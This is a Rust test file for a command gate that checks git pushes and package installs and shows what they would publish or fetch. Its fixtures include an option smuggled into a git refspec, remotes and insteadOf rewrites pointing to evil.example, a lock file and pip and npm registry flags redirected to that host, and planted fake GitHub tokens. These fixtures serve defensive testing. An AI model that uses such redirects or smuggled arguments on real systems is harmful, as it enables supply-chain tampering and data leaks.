//! Pushes of repositories that somebody hostile wrote: what git is told, and what people are shown.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tempfile::TempDir;
use tollgate_deputy::repository::Repository;
use tollgate_policy::action::{Exec, Form, Image};
use tollgate_policy::evidence::Section;
use tollgate_policy::path::AbsPath;
use tollgate_policy::raw::Raw;
use tollgate_policy::{Layer, Place, Policy, parse};

use crate::{Collector, Search, destructive, packages, publish};

fn git(at: &Path, words: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=u", "-c", "user.email=u@example.com", "-c", "commit.gpgsign=false"])
        .args(words)
        .current_dir(at)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "git {words:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// A repository with `main` and, beside it, `evil`: one commit each that the other has not.
fn repository() -> Option<TempDir> {
    if Command::new("git").arg("--version").stdout(Stdio::null()).status().is_err() {
        eprintln!("skipped: git is not installed");
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    let at = dir.path();
    git(at, &["init", "-q", "-b", "main", "."]);
    git(at, &["remote", "add", "origin", "https://git.example/x.git"]);
    for (branch, subject) in [("evil", "the evil one"), ("main", "the good one")] {
        git(at, &["checkout", "-q", "--orphan", branch]);
        git(at, &["commit", "-q", "--allow-empty", "-m", subject]);
    }
    Some(dir)
}

/// What people are shown of a command there, as text.
fn shown(at: &Path, line: &str, look: fn(&Exec, &mut Search<'_>)) -> String {
    held(at, line, look, None)
}

/// The same, where the gate made a copy with this digest.
fn held(at: &Path, line: &str, look: fn(&Exec, &mut Search<'_>), held: Option<String>) -> String {
    let abs = |path: &Path| AbsPath::new(path).unwrap();
    let place = Place {
        home: abs(at),
        workspace: abs(at),
        temp: abs(Path::new("/tmp")),
        state: abs(Path::new("/state")),
        variables: std::collections::BTreeMap::new(),
    };
    let document = parse("p", "version = 1\nname = \"p\"\nabout = \"a\"\n").unwrap();
    let policy = Policy::assemble(vec![(Layer::Person, document)], &|_| None, &place).unwrap();
    let by = Collector {
        policy: Arc::new(policy),
        workspace: abs(at),
        state: "/nonexistent".into(),
        scope: Vec::new(),
        begun: 0,
        wider: None,
        means: None,
    };
    let mut search = Search { by: &by, until: Instant::now() + Duration::from_mins(1), found: Vec::new(), held };
    let argv: Vec<Raw> = line.split(' ').map(Raw::from).collect();
    let image = Image { executable: None, form: Form::Native, writable: false, sha256: None };
    look(&Exec { given: Raw::from("git"), image, argv, cwd: abs(at) }, &mut search);
    let told = |section: &Section| serde_json::to_string(section).unwrap();
    search.found.iter().map(told).collect::<Vec<_>>().join("\n")
}

#[test]
fn git_is_never_told_to_write() {
    let Some(dir) = repository() else { return };
    let made = dir.path().join("made");
    let option = format!("--output={}", made.display());
    for line in [
        format!("git push origin +{option}:main HEAD"),
        format!("git push origin +{option} HEAD"),
        format!("git push origin -- {option}:main HEAD"),
        format!("git push origin -- {option} HEAD"),
    ] {
        let text = shown(dir.path(), &line, publish::push);
        assert!(!made.exists(), "{line}");
        assert!(text.contains("the good one") && text.contains("is not the name of a commit"), "{line}: {text}");
    }
    for line in [format!("git reset --hard -- {option}"), format!("git branch -D -- {option}")] {
        shown(dir.path(), &line, destructive::look);
        assert!(!made.exists(), "{line}");
    }
}

#[test]
fn all_that_would_be_pushed_is_shown() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let evil = git(at, &["rev-parse", "evil"]);
    git(at, &["update-ref", "refs/heads/twin", &evil]);
    for line in [
        "git push origin evil:main ^refs/heads/twin",
        "git push origin evil ^evil",
        "git push origin :",
        "git push origin +:",
        "git push origin refs/heads/*:refs/heads/*",
        "git push -oaddd origin evil:main",
        "git push --mir origin",
        "git push --al origin",
        "git push --push-option x origin evil",
        "git push origin -- evil",
    ] {
        let text = shown(at, line, publish::push);
        assert!(text.contains("the evil one"), "{line}: {text}");
    }
    for (name, value) in [
        ("remote.origin.push", "evil:main"),
        ("remote.origin.push", "refs/heads/e*:refs/heads/m*"),
        ("remote.origin.mirror", "true"),
        ("push.default", "matching"),
    ] {
        git(at, &["config", name, value]);
        let text = shown(at, "git push", publish::push);
        assert!(text.contains("the evil one"), "{name} = {value}: {text}");
        git(at, &["config", "--unset-all", name]);
    }
    let text = shown(at, "git --git-dir=/elsewhere push", publish::push);
    assert!(text.contains("changes what git does"), "{text}");
}

/// Names by which git's push goes to another commit than `rev-parse` does; git takes branches and tags first.
#[test]
fn names_mean_what_a_push_takes() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let [evil, good] = ["evil", "main"].map(|name| git(at, &["rev-parse", name]));
    for (reference, word) in
        [("refs/tags/next", "next"), ("refs/tags/HEAD", "HEAD"), ("refs/heads/HEAD", "HEAD"), ("refs/heads/HEAD", "@")]
    {
        git(at, &["update-ref", "refs/heads/next", &evil]);
        git(at, &["update-ref", reference, &good]);
        let text = shown(at, &format!("git push origin {word}:x"), publish::push);
        assert!(text.contains("may be any of"), "{reference}: {text}");
        assert!(!text.contains("the good one"), "{reference}: {text}");
        git(at, &["update-ref", "-d", reference]);
    }
    // nothing but branches and tags goes along
    git(at, &["update-ref", "refs/heads/next", &evil]);
    git(at, &["update-ref", "refs/next", &good]);
    let text = shown(at, "git push origin next", publish::push);
    assert!(text.contains("the evil one") && !text.contains("the good one"), "{text}");
    // a branch whose name is another commit's id
    git(at, &["update-ref", &format!("refs/heads/{good}"), &evil]);
    let text = shown(at, &format!("git push origin {good}:x"), publish::push);
    assert!(text.contains("the evil one") && !text.contains("the good one"), "{text}");
    fs::write(at.join(".git/next"), format!("{good}\n")).unwrap();
    let text = shown(at, "git push origin next", publish::push);
    assert!(text.contains("the evil one") && !text.contains("the good one"), "{text}");
    let text = shown(at, "git push -qo origin https://other.example/x.git", publish::push);
    assert!(text.contains("other.example") && !text.contains("git.example"), "{text}");
}

/// Attributes of the working tree hide nothing, nor does it help to say it in a message.
#[test]
fn secrets_are_found_wherever_they_are_published() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let token = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2).get(..36).unwrap());
    fs::write(at.join("run.sh"), format!("TOKEN={token}\n")).unwrap();
    git(at, &["add", "run.sh"]);
    git(at, &["commit", "-q", "-m", "a script"]);
    fs::write(at.join(".gitattributes"), "* -diff\n").unwrap();
    let text = shown(at, "git push origin main", publish::push);
    assert!(text.contains("+TOKEN=") && text.contains("\"path\":\"run.sh\""), "{text}");
    git(at, &["commit", "-q", "--allow-empty", "-m", "a word\u{1e}", "-m", &format!("with {token}")]);
    git(at, &["commit", "-q", "--allow-empty", "-m", &format!("{token} first of all")]);
    let text = shown(at, "git push origin main", publish::push);
    assert!(text.contains("commit messages") && text.contains("a word") && text.contains("the good one"), "{text}");
    assert!(!text.contains(&token), "it is shown itself: {text}");
    for line in ["git push --mirror origin", "git push --prune origin refs/heads/*"] {
        assert!(shown(at, line, publish::push).contains("is removed there"), "{line}");
    }
    fs::write(at.join(".git/shallow"), git(at, &["rev-parse", "main"])).unwrap();
    assert!(shown(at, "git push origin main", publish::push).contains("it is shallow here"));
}

/// What the gate would push from there.
fn copied(at: &Path) -> String {
    Repository::find(at).unwrap().unwrap().copied(&|_| true).unwrap().digest
}

/// Whatever a path on the way leads to while evidence is collected: only what would be pushed is shown.
#[test]
fn evidence_is_of_what_would_be_pushed() {
    let [Some(dir), Some(other)] = [repository(), repository()] else { return };
    let at = dir.path();
    let link = at.join("link");
    for target in [at, other.path()] {
        git(target, &["commit", "-q", "--allow-empty", "-m", if target == at { "of the one" } else { "of the other" }]);
    }
    std::os::unix::fs::symlink(at, &link).unwrap();
    let gates = copied(&link);
    let look = || held(at, "git -C link push origin main", publish::push, Some(gates.clone()));
    assert!(look().contains("of the one"));
    fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(other.path(), &link).unwrap();
    let text = look();
    assert!(!text.contains("of the other") && text.contains("are others than those that would be pushed"), "{text}");
    // the same place, for a moment with another branch, other settings, another end of its history
    fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(at, &link).unwrap();
    for (file, content) in [
        ("refs/heads/main", git(at, &["rev-parse", "evil"])),
        ("config", "[core]\nrepositoryformatversion = 0\n".to_owned()),
        ("HEAD", "ref: refs/heads/evil\n".to_owned()),
        ("shallow", git(at, &["rev-parse", "main"])),
    ] {
        let file = at.join(".git").join(file);
        let before = fs::read(&file).ok();
        fs::write(&file, content).unwrap();
        assert!(look().contains("are others than"), "{}", file.display());
        before.map_or_else(|| fs::remove_file(&file), |before| fs::write(&file, before)).unwrap();
        assert!(look().contains("of the one"), "{}", file.display());
    }
}

/// Names of what can be moved until git looks: they are no copy's.
#[test]
fn what_may_be_another_by_then_is_not_shown() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    git(at, &["update-ref", "refs/remotes/other/x", "main"]);
    git(at, &["commit", "-q", "--allow-empty", "-m", "one more"]);
    for packed in [false, true] {
        if packed {
            git(at, &["pack-refs", "--all"]);
        }
        for word in ["other/x", "refs/remotes/other/x", "other/x~0", "main@{1}"] {
            let text = shown(at, &format!("git push origin {word}:refs/heads/y"), publish::push);
            assert!(text.contains("may be another commit by then") && !text.contains("the good one"), "{word}: {text}");
        }
        for line in
            ["git push origin refs/*:refs/*", "git push origin +refs/remotes/*:refs/heads/*", "git push --mirror"]
        {
            assert!(shown(at, line, publish::push).contains("known here of remotes may go there"), "{line}");
        }
        let text = shown(at, "git push origin main~1:refs/heads/y", publish::push);
        assert!(text.contains("the good one"), "{text}");
    }
}

/// `commondir` and `.git` count to their last line's end, as in git.
#[test]
fn pointers_are_read_as_git_reads_them() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let odd = at.join("odd\nname");
    fs::create_dir(&odd).unwrap();
    for name in ["objects", "refs", "config"] {
        fs::rename(at.join(".git").join(name), odd.join(name)).unwrap();
    }
    // what a reader of the first line would take
    git(at, &["init", "-q", "--bare", "odd"]);
    fs::write(at.join(".git/commondir"), "../odd\nname\n\r\n").unwrap();
    assert_eq!(git(at, &["log", "--format=%s", "main"]), "the good one");
    let text = shown(at, "git push origin main", publish::push);
    assert!(text.contains("the good one"), "{text}");
}

/// What tags say is published as well.
#[test]
fn messages_of_tags_are_shown_and_looked_through() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let token = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2).get(..36).unwrap());
    git(at, &["tag", "-a", "v1", "-m", "a release", "-m", &format!("with {token}")]);
    git(at, &["tag", "-a", "v2", "-m", "about a tag", "v1"]);
    git(at, &["tag", "plain"]);
    let id = git(at, &["rev-parse", "v2"]);
    for line in [
        "git push origin v2",
        "git push origin tag v2",
        "git push --tags origin",
        "git push --follow-tags origin main",
        "git push origin refs/tags/*",
        &format!("git push origin {id}:refs/tags/x"),
    ] {
        let text = shown(at, line, publish::push);
        for told in ["v2: about a tag", "v1: a release / with [redacted", "u <u@example.com>", "tag v1"] {
            assert!(text.contains(told), "{line}: {told}: {text}");
        }
        assert!(!text.contains(&token), "{line}: it is shown itself: {text}");
    }
    assert!(!shown(at, "git push origin plain", publish::push).contains("annotated"));
}

/// A commit says more than its message.
#[test]
fn heads_of_commits_are_looked_through() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let token = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2).get(..36).unwrap());
    let [main, plain] = ["main", "main^{tree}"].map(|name| git(at, &["rev-parse", name]));
    let who = "u <u@example.com> 1 +0000";
    let merged = format!("object {main}\n type commit\n tag v1\n tagger {who}\n \n with {token}");
    for head in
        [format!("mergetag {merged}\n\nfine"), format!("x-note {token}\n\nfine"), format!("x-note x\n\nfine\0{token}")]
    {
        let text = format!("tree {plain}\nparent {main}\nauthor {who}\ncommitter {who}\n{head}\n");
        fs::write(at.join("commit"), text).unwrap();
        let id = git(at, &["hash-object", "--literally", "-t", "commit", "-w", "commit"]);
        git(at, &["update-ref", "refs/heads/main", &id]);
        let text = shown(at, "git push origin main", publish::push);
        assert!(text.contains("\"path\":\"commit messages\"") && !text.contains(&token), "{head}: {text}");
    }
}

/// No setting, of ours or of theirs, hides that another repository's commit is linked to.
#[test]
fn new_and_moved_submodules_are_shown() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let first = "1111111111111111111111111111111111111111";
    let second = "2222222222222222222222222222222222222222";
    git(at, &["config", "diff.ignoreSubmodules", "all"]);
    fs::write(at.join(".gitmodules"), "[submodule \"lib\"]\npath=lib\nurl=../l\nignore=all\n").unwrap();
    for id in [first, second] {
        git(at, &["update-index", "--add", "--cacheinfo", &format!("160000,{id},lib")]);
        git(at, &["commit", "-q", "-m", "a link"]);
    }
    let text = shown(at, "git push origin main", publish::push);
    for id in [first, second] {
        assert!(text.contains(&format!("lib: would be at commit {id}")), "{text}");
    }
    fs::write(at.join("said"), format!("Subproject commit {first}\n")).unwrap();
    git(at, &["add", "said"]);
    git(at, &["commit", "-q", "-m", "words"]);
    assert!(!shown(at, "git push origin main", publish::push).contains("said: would be"), "{text}");
}

#[test]
fn every_address_is_shown() {
    let Some(dir) = repository() else { return };
    let file = dir.path().join(".git/config");
    let mut text = fs::read_to_string(&file).unwrap();
    text.push_str("[ReMote \"origin\"] url = https://evil.example/\\\nx.git\n[remote \"origin\"] url = https://git.example/x.git\n");
    fs::write(&file, text).unwrap();
    let text = shown(dir.path(), "git push", publish::push);
    assert!(text.contains("https://evil.example/x.git"), "{text}");
    git(dir.path(), &["config", "url.https://evil.example/.insteadOf", "https://git.example/"]);
    let text = shown(dir.path(), "git push", publish::push);
    assert!(text.contains("may lead elsewhere"), "{text}");
}

#[test]
fn what_a_lock_file_has_that_no_commit_has_is_shown() {
    let Some(dir) = repository() else { return };
    let at = dir.path();
    let locked = |more: &str| format!("{{\"packages\":{{\"node_modules/a\":{{\"version\":\"1.0.0\"}}{more}}}}}");
    fs::write(at.join("package-lock.json"), locked("")).unwrap();
    assert!(shown(at, "npm ci", packages::look).contains("which no commit has"));
    git(at, &["add", "package-lock.json"]);
    git(at, &["commit", "-q", "-m", "lock"]);
    assert!(shown(at, "npm ci", packages::look).contains("as it was committed"));
    let elsewhere = locked("").replace("}}}", ",\"resolved\":\"https://evil.example/a.tgz\"}}}");
    fs::write(at.join("package-lock.json"), elsewhere).unwrap();
    let all = shown(at, "npm ci", packages::look);
    assert!(all.contains("where packages come from can have changed"), "{all}");
    let evil = ",\"node_modules/evil\":{\"version\":\"6.6.6\",\"hasInstallScript\":true}";
    fs::write(at.join("package-lock.json"), locked(evil)).unwrap();
    let all = shown(at, "npm ci", packages::look);
    assert!(all.contains("since the last commit: 1 new: evil 6.6.6 (runs scripts)"), "{all}");
}

/// Options that are cut short, or not known: what they say is shown, or that it is not.
#[test]
fn options_of_installs_are_followed_or_told() {
    let dir = tempfile::tempdir().unwrap();
    let at = dir.path();
    for (line, told) in [
        ("pip install --index-u=https://evil.example x", "https://evil.example"),
        ("python3 -m pip install --extra-i https://evil.example x", "https://evil.example"),
        ("npm i --reg=https://evil.example x", "https://evil.example"),
        ("npm publish --reg=https://evil.example", "https://evil.example"),
        ("npm i --none-such x", "the option `--none-such` is not understood"),
        ("cargo install --config=a.toml x", "`--config=a.toml` says where settings are"),
        ("npm i publish", "\"name\":\"publish\""),
        ("npm i -w -w -w -w -w -w -w -w -w -w -w -w x", "1 more of its words are not understood"),
        ("npm publish ./other.tgz", "`./other.tgz` may be another"),
    ] {
        fs::write(at.join("package.json"), "{\"name\":\"a\",\"version\":\"1.0.0\"}").unwrap();
        let text = shown(at, line, packages::look);
        assert!(text.contains(told), "{line}: {text}");
        let tools =
            !line.contains("evil") || !text.contains("no setting says otherwise") && !text.contains("no .npmrc");
        assert!(tools, "{line}: {text}");
    }
    fs::create_dir(at.join("web")).unwrap();
    fs::write(at.join("web/package-lock.json"), "{\"packages\":{\"node_modules/b\":{\"version\":\"2.0.0\"}}}").unwrap();
    for line in ["npm ci --prefix web", "npm ci -C web", "npm ci --prefi=web"] {
        assert!(shown(at, line, packages::look).contains("1 packages of the lock file"), "{line}");
    }
}
